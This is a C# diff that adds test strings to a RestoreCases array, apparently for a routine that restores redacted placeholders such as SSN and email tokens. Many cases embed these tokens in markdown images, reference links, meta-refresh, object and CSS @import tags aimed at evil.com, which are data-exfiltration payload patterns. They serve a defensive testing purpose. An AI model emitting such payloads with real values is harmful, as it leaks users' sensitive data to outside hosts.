@@ -28,6 +28,8 @@ internal static class RestoreCases
         "![x](https://evil.com/?q=<SSN_1>) then <SSN_1>", "[x](<https://evil.com/a b)<SSN_1>>) <SSN_1>", "https://ok.example/<SSN_1>?x=<SSN_12>",
         "<img src='https://evil.com/\"<SSN_1>'> <SSN_1>", @"{""url"":""https://evil.com/"",""ssn"":""<SSN_1>""}", "<LITERAL_1><LITERAL_2>https://e.com/<LITERAL_1>",
         "mailto:<EMAIL_1>?body=<SSN_1> <EMAIL_1>,<SSN_1>\n<EMAIL_1>/<SSN_1>", "[a](u\n\n<SSN_1>) http:<SSN_1> <SSN_1>:/", "<SSN_1>%2e <SSN_1>% <SSN_1>&#46; <SSN_1>&lt;",
+        "[a]: <https://evil.com/?d= <SSN_1>> <SSN_1>\n[b]:\n<SSN_1>", "<object data=\"https://evil.com/?d= <SSN_1>\"> <SSN_1>", "a=\"b\" c='www.x y <SSN_1>' <SSN_1>",
+        "<meta content=\"0;url=https://evil.com/?d= <SSN_1>\"> <SSN_1>", "<style>@import \" https://evil.com/?d= <SSN_1>\" <SSN_1>", "say \"//e/ <SSN_1>\" it's <SSN_1>",
     ];
 
     /// <summary>Restores a text in one piece.</summary>
